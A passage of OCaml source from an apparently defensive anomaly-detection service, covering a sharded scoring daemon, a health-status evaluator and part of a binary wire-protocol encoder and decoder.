          Metrics.incr ~by:(qr - !seen_qgate_rejections) c_qgate_rejections;
          seen_qgate_rejections := qr
        end
  in
  let account session scorer verdict =
    Metrics.incr c_windows;
    Metrics.incr c_flags.(flag_severity verdict.Detector.flag);
    match verdict.Detector.flag with
    | Detector.Normal | Detector.Anomalous -> ()
    | Detector.Data_leak | Detector.Out_of_context ->
        (* actionable verdict: pay for the explanation (one extra
           forward pass) and an event on the shard's recent-events ring
           — both off the Normal fast path *)
        let explanation = Scorer.explain_last scorer in
        ignore
          (Alerts.record_verdict ?explanation alerts ~session
             ~window_index:(Scorer.windows_scored scorer - 1)
             verdict);
        if Olog.enabled Olog.Warn then
          Olog.emit ~ring Olog.Warn ~scope:"daemon"
            ~fields:
              ([
                 ("shard", Olog.Int idx);
                 ("session", Olog.Int session);
                 ("flag", Olog.Str (Detector.flag_to_string verdict.Detector.flag));
               ]
              @
              match explanation with
              | Some e -> [ ("gate", Olog.Str (Scoring.gate_to_string e.Scoring.gate)) ]
              | None -> [])
            "incident"
  in
  let handle deq_ns = function
    | Event ({ Codec.session; event }, enq_ns) ->
        Metrics.observe h_queue_wait (ns_to_s (Int64.sub deq_ns enq_ns));
        if not (Hashtbl.mem shed_here session) then begin
          let scorer =
            match Hashtbl.find_opt scorers session with
            | Some s -> s
            | None ->
                let s = Scorer.create_with ~keep_verdicts engine in
                Hashtbl.replace scorers session s;
                s
          in
          let t0 = Unix.gettimeofday () in
          (match Scorer.push scorer event with
          | Ok (Some verdict) ->
              account session scorer verdict;
              (* the verdict-completing event pays one extra clock read
                 to date the whole ingest→verdict path *)
              Metrics.observe h_e2e
                (ns_to_s (Int64.sub (Oclock.monotonic_ns ()) enq_ns))
          | Ok None -> ()
          | Error _ ->
              (* a protocol slip (event after end-of-session), handled
                 like a codec-level incident — never a dead shard *)
              Metrics.incr c_scorer_errors);
          Metrics.observe h_latency (Unix.gettimeofday () -. t0)
        end
    | Query ({ Codec.q_session = session; rows; sql }, enq_ns) -> (
        Metrics.observe h_queue_wait (ns_to_s (Int64.sub deq_ns enq_ns));
        match qsig_engine with
        | None -> ()
        | Some qe ->
            if not (Hashtbl.mem shed_here session) then begin
              let qs =
                match Hashtbl.find_opt qsig_scorers session with
                | Some s -> s
                | None ->
                    let s = Adprom_qsig.Engine.Scorer.create qe in
                    Hashtbl.replace qsig_scorers session s;
                    s
              in
              let verdict = Adprom_qsig.Engine.Scorer.push qs ~rows sql in
              Metrics.incr c_qsig_checks;
              if verdict.Adprom_qsig.Engine.anomalous then begin
                Metrics.incr c_qsig_anomalies;
                ignore
                  (Alerts.record_query_verdict alerts ~session
                     ~query_index:
                       (Adprom_qsig.Engine.Scorer.queries_seen qs - 1)
                     ~sql verdict);
                if Olog.enabled Olog.Warn then
                  Olog.emit ~ring Olog.Warn ~scope:"daemon"
                    ~fields:
                      [
                        ("shard", Olog.Int idx);
                        ("session", Olog.Int session);
                        ( "reasons",
                          Olog.Str
                            (Adprom_qsig.Engine.verdict_to_string verdict) );
                      ]
                    "query_incident"
              end
            end)
    | Shed session ->
        (match Hashtbl.find_opt scorers session with
        | Some scorer ->
            discarded := (session, Scorer.events_seen scorer) :: !discarded;
            Hashtbl.remove scorers session
        | None -> ());
        Hashtbl.remove qsig_scorers session;
        Hashtbl.replace shed_here session ()
  in
  let rec loop () =
    let batch, finished =
      (* the queue-wait span covers blocking in [Condition.wait]: under
         tracing, long waits show up as long spans, not as gaps *)
      Otrace.with_span "daemon.queue_wait"
        ~attrs:(fun () -> [ ("shard", string_of_int idx) ])
        (fun () ->
          Mutex.lock shard.mutex;
          while Queue.is_empty shard.queue && not shard.closed do
            Condition.wait shard.nonempty shard.mutex
          done;
          let batch = Queue.create () in
          Queue.transfer shard.queue batch;
          let finished = shard.closed && Queue.is_empty batch in
          Metrics.set_gauge shard.depth 0;
          Mutex.unlock shard.mutex;
          (batch, finished))
    in
    (* batch-granularity span: per-event spans would dominate the push
       itself; per-event latency is already in the latency histogram *)
    if not (Queue.is_empty batch) then begin
      (* one clock read dates the whole batch's dequeue: per-message
         reads would double the clock cost for no extra signal *)
      let deq_ns = Oclock.monotonic_ns () in
      Otrace.with_span "daemon.batch"
        ~attrs:(fun () ->
          [ ("shard", string_of_int idx); ("events", string_of_int (Queue.length batch)) ])
        (fun () -> Queue.iter (handle deq_ns) batch)
    end;
    sync_cache_counters ();
    if finished then begin
      let qsig_stats session =
        match Hashtbl.find_opt qsig_scorers session with
        | Some qs ->
            ( Adprom_qsig.Engine.Scorer.queries_seen qs,
              Adprom_qsig.Engine.Scorer.anomalies qs )
        | None -> (0, 0)
      in
      let reports =
        Hashtbl.fold
          (fun session scorer acc ->
            (match Scorer.flush scorer with
            | Some verdict -> account session scorer verdict
            | None -> ());
            let qsig_checks, qsig_anomalies = qsig_stats session in
            {
              session;
              events = Scorer.events_seen scorer;
              windows = Scorer.windows_scored scorer;
              worst = Scorer.worst scorer;
              verdicts = Scorer.verdicts scorer;
              qsig_checks;
              qsig_anomalies;
            }
            :: acc)
          scorers []
      in
      (* sessions whose only traffic was queries still get a report so
         a query-axis alarm is never orphaned from the summary *)
      let reports =
        Hashtbl.fold
          (fun session qs acc ->
            if Hashtbl.mem scorers session then acc
            else
              {
                session;
                events = 0;
                windows = 0;
                worst = Detector.Normal;
                verdicts = [];
                qsig_checks = Adprom_qsig.Engine.Scorer.queries_seen qs;
                qsig_anomalies = Adprom_qsig.Engine.Scorer.anomalies qs;
              }
              :: acc)
          qsig_scorers reports
      in
      sync_cache_counters ();
      { reports; discarded = !discarded }
    end
    else loop ()
  in
  loop ()

let default_ring_capacity = 256

let create ?(shards = 4) ?(queue_capacity = 4096) ?(keep_verdicts = true)
    ?(ring_capacity = default_ring_capacity) ?metrics ?alerts ?vet_against
    ?(vet_policy = Adprom.Profile_check.Warn) ?(static_gate = Gate_explain)
    ?(qsig_mode = Qsig_off) ?qsig_profile
    ?(qsig_static_gate = Gate_explain) profile =
  if shards < 1 then invalid_arg "Daemon.create: need at least one shard";
  if queue_capacity < 0 then invalid_arg "Daemon.create: negative queue capacity";
  if ring_capacity < 0 then invalid_arg "Daemon.create: negative ring capacity";
  let metrics = match metrics with Some m -> m | None -> Metrics.create () in
  let alerts = match alerts with Some a -> a | None -> Alerts.create () in
  (* The call-sequence automaton is built once, before any domain
     spawns; workers load the compiled DFA into their engines. *)
  let static_auto =
    match (vet_against, static_gate) with
    | Some analysis, (Gate_explain | Gate_enforce) ->
        Some (Adprom.Profile_check.automaton profile analysis)
    | Some _, Gate_off | None, _ -> None
  in
  (* Vet the profile against the program before any domain spawns:
     under [Enforce] a failing profile raises here (no workers to tear
     down yet); under [Warn] findings are logged and counted. *)
  let static_pairs =
    match vet_against with
    | None -> None
    | Some analysis ->
        let module Diag = Analysis.Diag in
        let diags =
          Adprom.Profile_check.apply vet_policy ?automaton:static_auto profile
            analysis
        in
        let errors = List.length (Diag.errors diags) in
        let warnings = List.length (Diag.warnings diags) in
        let c_err = Metrics.counter metrics "adprom_profile_vet_errors_total" in
        let c_warn = Metrics.counter metrics "adprom_profile_vet_warnings_total" in
        if errors > 0 then Metrics.incr ~by:errors c_err;
        if warnings > 0 then Metrics.incr ~by:warnings c_warn;
        List.iter
          (fun d ->
            let level =
              match d.Diag.severity with
              | Diag.Error -> Olog.Warn
              | Diag.Warning -> Olog.Info
              | Diag.Hint -> Olog.Debug
            in
            if Olog.enabled level then
              Olog.emit level ~scope:"daemon"
                ~fields:[ ("code", Olog.Str d.Diag.code) ]
                (Diag.to_string d))
          diags;
        (* Explanations can now name statically impossible pairs. *)
        Some (Adprom.Profile_check.static_pairs analysis)
  in
  (* register the shared series up front so the dump shows them even
     before the first event arrives *)
  ignore (Metrics.counter metrics "adprom_windows_scored_total");
  Array.iter (fun n -> ignore (Metrics.counter metrics n)) flag_counter_names;
  ignore
    (Metrics.histogram metrics "adprom_score_latency_seconds"
       ~help:"Per-event scorer push latency");
  ignore
    (Metrics.histogram metrics "adprom_queue_wait_seconds"
       ~help:"Time items spend queued between admission and dequeue");
  ignore
    (Metrics.histogram ~buckets:e2e_buckets metrics
       "adprom_e2e_latency_seconds"
       ~help:"Ingest-to-verdict latency of verdict-completing events");
  ignore (Metrics.counter metrics "adprom_score_cache_hits_total");
  ignore (Metrics.counter metrics "adprom_score_cache_misses_total");
  ignore (Metrics.counter metrics "adprom_scorer_errors_total");
  ignore (Metrics.counter metrics "adprom_dfa_gate_checks_total");
  ignore (Metrics.counter metrics "adprom_dfa_gate_rejections_total");
  ignore (Metrics.counter metrics "adprom_qsig_checks_total");
  ignore (Metrics.counter metrics "adprom_qsig_anomalies_total");
  ignore (Metrics.counter metrics "adprom_qsig_gate_checks_total");
  ignore (Metrics.counter metrics "adprom_qsig_gate_rejections_total");
  (* The query axis needs both a mode and a trained profile; workers
     snapshot the profile before any domain spawns so later mutation by
     the caller cannot race the checkers. *)
  let qsig =
    match (qsig_mode, qsig_profile) with
    | Qsig_off, _ | _, None -> None
    | (Qsig_warn | Qsig_enforce), Some qprofile ->
        Some (Adprom_qsig.Profile.copy qprofile, qsig_policy_of_mode qsig_mode)
  in
  (* The static query-signature set (the query axis' analogue of the
     call-sequence DFA) is inferred once before any domain spawns;
     workers install it into their qsig engines. Inert without both a
     program to infer from and an active query axis. *)
  let qsig_static =
    match (vet_against, qsig, qsig_static_gate) with
    | Some analysis, Some _, (Gate_explain | Gate_enforce) ->
        let sq =
          Analysis.Qstatic.infer analysis.Analysis.Analyzer.pruned_cfgs
        in
        Some
          ( sq.Analysis.Qstatic.signatures,
            sq.Analysis.Qstatic.complete,
            qsig_static_gate = Gate_enforce )
    | (None, _, _ | _, None, _ | _, _, Gate_off) -> None
  in
  let shard_array =
    Array.init shards (fun i ->
        {
          mutex = Mutex.create ();
          nonempty = Condition.create ();
          queue = Queue.create ();
          closed = false;
          depth = Metrics.gauge metrics (Printf.sprintf "adprom_queue_depth_shard%d" i);
        })
  in
  let rings = Array.init shards (fun _ -> Oring.create ring_capacity) in
  (* every span finished while this daemon lives lands in a metrics
     histogram; removed at drain so a later daemon re-registers its own *)
  let span_hook = Otrace.on_span_end (Metrics.span_exporter metrics) in
  let workers =
    Array.mapi
      (fun idx shard ->
        Domain.spawn (fun () ->
            worker ~idx ~profile ~static_pairs ~static_auto
              ~gate_enforce:(static_gate = Gate_enforce) ~keep_verdicts ~qsig
              ~qsig_static ~metrics ~alerts ~ring:rings.(idx) shard))
      shard_array
  in
  {
    profile;
    capacity = queue_capacity;
    keep_verdicts;
    qsig_active = qsig <> None;
    shards = shard_array;
    workers;
    metrics;
    alerts;
    rings;
    span_hook;
    shed_at_door = Hashtbl.create 16;
    offered = 0;
    ingested = 0;
    dropped = 0;
    draining = false;
    c_offered = Metrics.counter metrics "adprom_events_offered_total";
    c_ingested = Metrics.counter metrics "adprom_events_ingested_total";
    c_dropped = Metrics.counter metrics "adprom_events_dropped_total";
    c_shed_sessions = Metrics.counter metrics "adprom_sessions_shed_total";
  }

let drop t ev =
  t.dropped <- t.dropped + 1;
  Metrics.incr t.c_dropped;
  match Hashtbl.find_opt t.shed_at_door ev.Codec.session with
  | Some n -> incr n
  | None -> Hashtbl.replace t.shed_at_door ev.Codec.session (ref 1)

let ingest t ev =
  if t.draining then invalid_arg "Daemon.ingest: daemon already drained";
  if ev.Codec.session < 0 then invalid_arg "Daemon.ingest: negative session id";
  t.offered <- t.offered + 1;
  Metrics.incr t.c_offered;
  if Hashtbl.mem t.shed_at_door ev.Codec.session then begin
    drop t ev;
    Rejected { newly_shed = false }
  end
  else begin
    let shard = t.shards.(shard_of t ev.Codec.session) in
    Mutex.lock shard.mutex;
    let depth = Queue.length shard.queue in
    if depth >= t.capacity then begin
      (* Overload: shed the whole session, never individual events —
         dropping single events would fabricate call transitions that
         no program run produced (see Core.Sessions). The control
         message is exempt from the bound so the worker can discard the
         session's partial state. *)
      Queue.add (Shed ev.Codec.session) shard.queue;
      Condition.signal shard.nonempty;
      Mutex.unlock shard.mutex;
      Metrics.incr t.c_shed_sessions;
      drop t ev;
      Rejected { newly_shed = true }
    end
    else begin
      Queue.add (Event (ev, Oclock.monotonic_ns ())) shard.queue;
      Metrics.set_gauge shard.depth (depth + 1);
      Condition.signal shard.nonempty;
      Mutex.unlock shard.mutex;
      t.ingested <- t.ingested + 1;
      Metrics.incr t.c_ingested;
      Accepted
    end
  end

let ingest_query t (q : Codec.query) =
  if t.draining then invalid_arg "Daemon.ingest_query: daemon already drained";
  if q.Codec.q_session < 0 then
    invalid_arg "Daemon.ingest_query: negative session id";
  if not t.qsig_active then Accepted
  else if Hashtbl.mem t.shed_at_door q.Codec.q_session then
    (* the session is already gone; its queries follow its events out *)
    Rejected { newly_shed = false }
  else begin
    (* Queries are low-volume side traffic (one per DB call, not one
       per library call) and never fabricate call transitions, so they
       are exempt from the shedding bound, like the control message. *)
    let shard = t.shards.(shard_of t q.Codec.q_session) in
    Mutex.lock shard.mutex;
    Queue.add (Query (q, Oclock.monotonic_ns ())) shard.queue;
    Condition.signal shard.nonempty;
    Mutex.unlock shard.mutex;
    Accepted
  end

let ingest_item t = function
  | Codec.Call ev -> ingest t ev
  | Codec.Query q -> ingest_query t q

let drain t =
  if t.draining then invalid_arg "Daemon.drain: daemon already drained";
  t.draining <- true;
  Array.iter
    (fun shard ->
      Mutex.lock shard.mutex;
      shard.closed <- true;
      Condition.broadcast shard.nonempty;
      Mutex.unlock shard.mutex)
    t.shards;
  let results = Array.map Domain.join t.workers in
  Otrace.remove_hook t.span_hook;
  let discarded =
    Array.to_list results |> List.concat_map (fun r -> r.discarded)
  in
  let sessions =
    Array.to_list results
    |> List.concat_map (fun r -> r.reports)
    |> List.filter (fun r -> not (Hashtbl.mem t.shed_at_door r.session))
    |> List.sort (fun a b -> compare a.session b.session)
  in
  let shed =
    Hashtbl.fold
      (fun session dropped acc ->
        let prefix =
          match List.assoc_opt session discarded with Some n -> n | None -> 0
        in
        (session, !dropped, prefix) :: acc)
      t.shed_at_door []
    |> List.sort (fun (a, _, _) (b, _, _) -> compare a b)
  in
  {
    sessions;
    shed;
    events_offered = t.offered;
    events_ingested = t.ingested;
    events_dropped = t.dropped;
  }

let metrics t = t.metrics
let alerts t = t.alerts
let shard_count t = Array.length t.shards
let queue_capacity t = t.capacity

let recent_events ?limit t =
  let all =
    Array.to_list t.rings
    |> List.concat_map Oring.to_list
    |> List.stable_sort (fun (a : Olog.event) b -> compare a.Olog.time b.Olog.time)
  in
  match limit with
  | None -> all
  | Some n ->
      let len = List.length all in
      List.filteri (fun i _ -> i >= len - n) all

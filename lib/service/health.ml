type status = Healthy | Degraded | Unhealthy

let status_to_string = function
  | Healthy -> "ok"
  | Degraded -> "degraded"
  | Unhealthy -> "unhealthy"

let status_of_string = function
  | "ok" -> Some Healthy
  | "degraded" -> Some Degraded
  | "unhealthy" -> Some Unhealthy
  | _ -> None

let status_to_int = function Healthy -> 0 | Degraded -> 1 | Unhealthy -> 2
let status_of_int = function 0 -> Some Healthy | 1 -> Some Degraded | 2 -> Some Unhealthy | _ -> None

(* worse-of for folding per-node statuses into a fleet status *)
let worst a b = if status_to_int a >= status_to_int b then a else b

type thresholds = {
  shed_degraded : float;  (* dropped/offered ratio *)
  shed_unhealthy : float;
  queue_hwm_frac : float;  (* high-watermark / capacity *)
  scorer_errors : int;
  e2e_p99_slo : float;  (* seconds *)
}

let default_thresholds =
  {
    shed_degraded = 0.01;
    shed_unhealthy = 0.10;
    queue_hwm_frac = 0.9;
    scorer_errors = 1;
    e2e_p99_slo = 1.0;
  }

type report = {
  status : status;
  reasons : string list;  (* one per tripped threshold, empty when ok *)
  shed_rate : float;
  queue_depth : int;  (* sum of the per-shard depth gauges *)
  queue_hwm : int;  (* max per-shard high-watermark *)
  queue_capacity : int;
  scorer_errors : int;
  e2e_p50 : float;
  e2e_p99 : float;  (* nan until the first verdict *)
}

let is_depth_gauge name =
  let prefix = "adprom_queue_depth_shard" in
  String.length name >= String.length prefix
  && String.sub name 0 (String.length prefix) = prefix

let evaluate ?(thresholds = default_thresholds) ~queue_capacity
    (s : Metrics.snapshot) =
  let offered = Metrics.snapshot_counter s "adprom_events_offered_total" in
  let dropped = Metrics.snapshot_counter s "adprom_events_dropped_total" in
  let scorer_errors = Metrics.snapshot_counter s "adprom_scorer_errors_total" in
  let shed_rate =
    if offered = 0 then 0.0 else float_of_int dropped /. float_of_int offered
  in
  let queue_depth, queue_hwm =
    List.fold_left
      (fun (d, m) (name, v, hwm) ->
        if is_depth_gauge name then (d + v, max m hwm) else (d, m))
      (0, 0) s.Metrics.gauges
  in
  let e2e_p50, e2e_p99 =
    match Metrics.snapshot_histogram s "adprom_e2e_latency_seconds" with
    | Some hs -> (Metrics.hist_quantile hs 0.5, Metrics.hist_quantile hs 0.99)
    | None -> (nan, nan)
  in
  let checks =
    [
      ( shed_rate >= thresholds.shed_unhealthy,
        Unhealthy,
        Printf.sprintf "shed rate %.1f%% >= %.1f%%" (100. *. shed_rate)
          (100. *. thresholds.shed_unhealthy) );
      ( shed_rate >= thresholds.shed_degraded,
        Degraded,
        Printf.sprintf "shed rate %.1f%% >= %.1f%%" (100. *. shed_rate)
          (100. *. thresholds.shed_degraded) );
      ( queue_capacity > 0
        && float_of_int queue_hwm
           >= thresholds.queue_hwm_frac *. float_of_int queue_capacity,
        Degraded,
        Printf.sprintf "queue high-watermark %d >= %.0f%% of capacity %d"
          queue_hwm
          (100. *. thresholds.queue_hwm_frac)
          queue_capacity );
      ( scorer_errors >= thresholds.scorer_errors,
        Degraded,
        Printf.sprintf "%d scorer error(s)" scorer_errors );
      ( (not (Float.is_nan e2e_p99)) && e2e_p99 > thresholds.e2e_p99_slo,
        Degraded,
        Printf.sprintf "e2e p99 %gs over the %gs SLO" e2e_p99
          thresholds.e2e_p99_slo );
    ]
  in
  let status, reasons =
    List.fold_left
      (fun (st, rs) (tripped, level, reason) ->
        if tripped then (worst st level, reason :: rs) else (st, rs))
      (Healthy, []) checks
  in
  (* the unhealthy shed check subsumes the degraded one: keep the
     stronger reason only *)
  let reasons =
    match List.rev reasons with
    | a :: b :: rest
      when status = Unhealthy
           && String.length a >= 9
           && String.sub a 0 9 = "shed rate"
           && String.length b >= 9
           && String.sub b 0 9 = "shed rate" ->
        a :: rest
    | rs -> rs
  in
  {
    status;
    reasons;
    shed_rate;
    queue_depth;
    queue_hwm;
    queue_capacity;
    scorer_errors;
    e2e_p50;
    e2e_p99;
  }

let quantile_json f =
  (* healthz consumers get null, not the non-JSON "nan" token *)
  if Float.is_nan f then "null"
  else if f = infinity then Adprom_obs.Json.string "+Inf"
  else Printf.sprintf "%g" f

let report_to_json ?(extra = []) ~node ~uptime_s r =
  let module J = Adprom_obs.Json in
  J.obj
    ([
       ("node", J.string node);
       ("status", J.string (status_to_string r.status));
       ( "reasons",
         "[" ^ String.concat "," (List.map J.string r.reasons) ^ "]" );
       ("uptime_seconds", Printf.sprintf "%.3f" uptime_s);
       ("shed_rate", Printf.sprintf "%.6f" r.shed_rate);
       ("queue_depth", string_of_int r.queue_depth);
       ("queue_high_watermark", string_of_int r.queue_hwm);
       ("queue_capacity", string_of_int r.queue_capacity);
       ("scorer_errors", string_of_int r.scorer_errors);
       ( "e2e_latency_seconds",
         J.obj
           [ ("p50", quantile_json r.e2e_p50); ("p99", quantile_json r.e2e_p99) ]
       );
     ]
    @ extra)

module Trace_io = Runtime.Trace_io
module Symbol = Analysis.Symbol

let protocol_version = 2
let magic = "\xad\x51"
let max_payload = 1 lsl 24

type node_summary = {
  node : string;
  summary : Daemon.summary;
  incidents : (int * string) list;
  fused : (int * Alerts.fused) list;
}

type health = {
  h_node : string;
  h_status : Health.status;
  h_snapshot : Metrics.snapshot;
  h_incidents : (int * string) list;
  h_uptime_s : float;
}

type frame =
  | Hello of { version : int; peer : string; sample : (int64 * int64) option }
  | Ack of { count : int }
  | Call of Transport.event
  | Query of Transport.query
  | Metrics_req
  | Metrics_resp of string
  | Bye
  | Summary of node_summary
  | Clock_probe of { seq : int }
  | Clock_reply of { seq : int; mono_ns : int64; wall_ns : int64 }
  | Trace_mark of { trace_id : int; send_mono_ns : int64; offset_ns : int64 }
  | Health_req
  | Health_resp of health
  | Spans_req
  | Spans_resp of Adprom_obs.Trace.span list

type error =
  | Bad_magic of { byte0 : int; byte1 : int }
  | Bad_version of int
  | Bad_frame_type of int
  | Frame_too_large of { length : int; limit : int }
  | Bad_payload of { frame : string; reason : string }
  | Truncated of { pending : int }

let error_to_string = function
  | Bad_magic { byte0; byte1 } ->
      Printf.sprintf "bad magic 0x%02x 0x%02x (not an adprom binary stream)"
        byte0 byte1
  | Bad_version v ->
      Printf.sprintf "unsupported protocol version %d (this build speaks <= %d)"
        v protocol_version
  | Bad_frame_type t -> Printf.sprintf "unknown frame type %d" t
  | Frame_too_large { length; limit } ->
      Printf.sprintf "frame payload of %d bytes exceeds the %d-byte limit"
        length limit
  | Bad_payload { frame; reason } ->
      Printf.sprintf "malformed %s frame: %s" frame reason
  | Truncated { pending } ->
      Printf.sprintf "truncated stream: %d byte(s) of an incomplete frame"
        pending

let tag_of_frame = function
  | Hello _ -> 0
  | Ack _ -> 1
  | Call _ -> 2
  | Query _ -> 3
  | Metrics_req -> 4
  | Metrics_resp _ -> 5
  | Bye -> 6
  | Summary _ -> 7
  | Clock_probe _ -> 8
  | Clock_reply _ -> 9
  | Trace_mark _ -> 10
  | Health_req -> 11
  | Health_resp _ -> 12
  | Spans_req -> 13
  | Spans_resp _ -> 14

let max_tag = 14

(* Version-1 decoders reject any header stamped > 1, so each frame is
   stamped with the lowest version that can decode it: the v1 frame set
   keeps its v1 stamp (a new router still interoperates with an old
   node), only the v2 extensions — the new tags, and a Hello that
   carries a clock sample — announce version 2. *)
let frame_wire_version = function
  | Hello { sample = Some _; _ } -> 2
  | f -> if tag_of_frame f >= 8 then 2 else 1

let max_tag_of_version ver = if ver >= 2 then max_tag else 7

let frame_name_of_tag = function
  | 0 -> "hello"
  | 1 -> "ack"
  | 2 -> "call"
  | 3 -> "query"
  | 4 -> "metrics-req"
  | 5 -> "metrics-resp"
  | 6 -> "bye"
  | 7 -> "summary"
  | 8 -> "clock-probe"
  | 9 -> "clock-reply"
  | 10 -> "trace-mark"
  | 11 -> "health-req"
  | 12 -> "health-resp"
  | 13 -> "spans-req"
  | 14 -> "spans-resp"
  | _ -> "unknown"

let frame_name f = frame_name_of_tag (tag_of_frame f)

(* ------------------------------------------------------------------ *)
(* primitive writers — frames are staged in a resizable [bytes] with
   unsafe single-byte stores and blitted into the caller's Buffer in
   one piece. The hot path writes millions of ten-byte frames;
   Buffer's per-char dispatch plus the old stage-then-copy were the
   dominant encode cost. *)

type writer = { mutable wbuf : Bytes.t; mutable wpos : int }

let writer_need w extra =
  let total = w.wpos + extra in
  if total > Bytes.length w.wbuf then begin
    let cap = ref (2 * Bytes.length w.wbuf) in
    while total > !cap do
      cap := 2 * !cap
    done;
    let b = Bytes.create !cap in
    Bytes.blit w.wbuf 0 b 0 w.wpos;
    w.wbuf <- b
  end

let add_u8 w v =
  writer_need w 1;
  Bytes.unsafe_set w.wbuf w.wpos (Char.unsafe_chr v);
  w.wpos <- w.wpos + 1

let add_varint w n =
  (* LEB128 over the int's 63 bits; [lsr] terminates for any input *)
  writer_need w 9;
  let b = w.wbuf in
  let p = ref w.wpos in
  let n = ref n in
  while !n land lnot 0x7f <> 0 do
    Bytes.unsafe_set b !p (Char.unsafe_chr (!n land 0x7f lor 0x80));
    incr p;
    n := !n lsr 7
  done;
  Bytes.unsafe_set b !p (Char.unsafe_chr !n);
  w.wpos <- !p + 1

let add_zigzag w n = add_varint w ((n lsl 1) lxor (n asr 62))

let add_str w s =
  let len = String.length s in
  add_varint w len;
  writer_need w len;
  Bytes.blit_string s 0 w.wbuf w.wpos len;
  w.wpos <- w.wpos + len

let add_opt_int w = function None -> add_u8 w 0 | Some v -> add_varint w (v + 1)
let add_bool w b = add_u8 w (if b then 1 else 0)

let add_fixed64 w bits =
  writer_need w 8;
  let b = w.wbuf and p = w.wpos in
  for i = 0 to 7 do
    Bytes.unsafe_set b (p + i)
      (Char.unsafe_chr (Int64.to_int (Int64.shift_right_logical bits (i * 8)) land 0xff))
  done;
  w.wpos <- p + 8

let add_flag w (f : Adprom.Detector.flag) =
  add_u8 w
    (match f with Normal -> 0 | Anomalous -> 1 | Data_leak -> 2 | Out_of_context -> 3)

let add_fused w (f : Alerts.fused) =
  add_u8 w
    (match f with No_alarm -> 0 | Sequence_only -> 1 | Query_only -> 2 | Both_axes -> 3)

let add_verdict buf (v : Adprom.Detector.verdict) =
  add_flag buf v.flag;
  add_fixed64 buf (Int64.bits_of_float v.score);
  add_bool buf v.unknown_symbol;
  match v.unknown_pair with
  | None -> add_bool buf false
  | Some (caller, sym) ->
      add_bool buf true;
      add_str buf caller;
      add_str buf (Trace_io.encode_symbol sym)

(* ------------------------------------------------------------------ *)
(* primitive readers — total: every failure raises the local [Fail],
   which the frame loop turns into [Bad_payload] *)

exception Fail of string

type cursor = { mutable cbuf : string; mutable p : int; mutable cstop : int }

let u8 c =
  if c.p >= c.cstop then raise (Fail "unexpected end of payload")
  else begin
    let v = Char.code c.cbuf.[c.p] in
    c.p <- c.p + 1;
    v
  end

let varint c =
  let b = u8 c in
  if b < 0x80 then b (* the overwhelmingly common single-byte case *)
  else begin
    let rec go shift acc =
      if shift > 56 then raise (Fail "varint too long")
      else begin
        let b = u8 c in
        let acc = acc lor ((b land 0x7f) lsl shift) in
        if b land 0x80 = 0 then acc else go (shift + 7) acc
      end
    in
    go 7 (b land 0x7f)
  end

let zigzag c =
  let z = varint c in
  (z lsr 1) lxor (-(z land 1))

let bytes c n =
  if n < 0 || n > c.cstop - c.p then raise (Fail "string length out of range")
  else begin
    let s = String.sub c.cbuf c.p n in
    c.p <- c.p + n;
    s
  end

let str c = bytes c (varint c)

(* A 9-byte varint can spill into the sign bit and decode to a negative
   OCaml int. Fields that are counts or ids (everything but zigzagged
   blocks) must reject those, or crafted binary input smuggles values
   the encoder itself refuses — e.g. a negative row count skewing the
   qsig bands. *)
let nonneg c what =
  let v = varint c in
  if v < 0 then raise (Fail ("negative " ^ what)) else v

let opt_int c =
  match varint c with
  | 0 -> None
  | v when v > 0 -> Some (v - 1)
  | _ -> raise (Fail "negative optional int")

let bool c =
  match u8 c with
  | 0 -> false
  | 1 -> true
  | b -> raise (Fail (Printf.sprintf "bad boolean byte %d" b))

let fixed64 c =
  let bits = ref 0L in
  for i = 0 to 7 do
    bits := Int64.logor !bits (Int64.shift_left (Int64.of_int (u8 c)) (i * 8))
  done;
  !bits

let flag c : Adprom.Detector.flag =
  match u8 c with
  | 0 -> Normal
  | 1 -> Anomalous
  | 2 -> Data_leak
  | 3 -> Out_of_context
  | b -> raise (Fail (Printf.sprintf "bad verdict flag %d" b))

let fused c : Alerts.fused =
  match u8 c with
  | 0 -> No_alarm
  | 1 -> Sequence_only
  | 2 -> Query_only
  | 3 -> Both_axes
  | b -> raise (Fail (Printf.sprintf "bad fused-axes tag %d" b))

let verdict c : Adprom.Detector.verdict =
  let flag = flag c in
  let score = Int64.float_of_bits (fixed64 c) in
  let unknown_symbol = bool c in
  let unknown_pair =
    if not (bool c) then None
    else begin
      let caller = str c in
      match Trace_io.decode_symbol (str c) with
      | Ok sym -> Some (caller, sym)
      | Error e -> raise (Fail (Printf.sprintf "bad symbol in verdict: %s" e))
    end
  in
  { flag; score; unknown_symbol; unknown_pair }

let read_list c f =
  let n = varint c in
  (* every element costs at least one byte, so the remaining payload
     bounds a well-formed length — rejects absurd counts up front *)
  if n < 0 || n > c.cstop - c.p then raise (Fail "list length out of range")
  else begin
    let rec go k acc = if k = 0 then List.rev acc else go (k - 1) (f c :: acc) in
    go n []
  end

(* ------------------------------------------------------------------ *)

module Encoder = struct
  type t = {
    interned : (string, int) Hashtbl.t;
    cache : string array;  (* direct-mapped accelerator in front of the
                              Hashtbl: the stream re-emits the same few
                              dozen caller/symbol strings forever, and a
                              physical-equality probe beats hashing them
                              on every single frame *)
    cache_idx : int array;
    mutable next : int;
    w : writer;  (* staged frames, header slots included, so each length
                    prefix is patched in place — no second copy *)
    mutable fstart : int;  (* where the frame being built starts in [w] *)
  }

  let cache_slots = 512 (* power of two; a stream carries a few dozen
                           distinct strings, so collisions — which send
                           every hit on the colliding pair through the
                           Hashtbl — want headroom, not snugness *)

  (* Frames accumulate in the writer and move to the caller's Buffer in
     batches: one [Buffer.add_subbytes] per ~4 KiB instead of one per
     ten-byte call frame. [flush] drains the remainder — the transport
     contract requires it before the buffer's bytes are used. *)
  let stage_limit = 4096

  let create () =
    { interned = Hashtbl.create 64;
      cache = Array.make cache_slots "";
      cache_idx = Array.make cache_slots 0;
      next = 0;
      w = { wbuf = Bytes.create (2 * stage_limit); wpos = 0 };
      fstart = 0 }

  let flush e out =
    let w = e.w in
    if w.wpos > 0 then begin
      Buffer.add_subbytes out w.wbuf 0 w.wpos;
      w.wpos <- 0
    end

  let slot_of s =
    (* a hash cheap enough to lose to nothing: length, boundary and
       middle chars; collisions just fall through to the Hashtbl *)
    let n = String.length s in
    (n
    + (Char.code (String.unsafe_get s 0) lsl 2)
    + (Char.code (String.unsafe_get s (n - 1)) lsl 4)
    + (Char.code (String.unsafe_get s (n lsr 1)) lsl 1))
    land (cache_slots - 1)

  let add_strref e s =
    if String.length s = 0 then begin
      match Hashtbl.find_opt e.interned s with
      | Some i -> add_varint e.w (i + 1)
      | None ->
          Hashtbl.add e.interned s e.next;
          e.next <- e.next + 1;
          add_u8 e.w 0;
          add_str e.w s
    end
    else begin
      let slot = slot_of s in
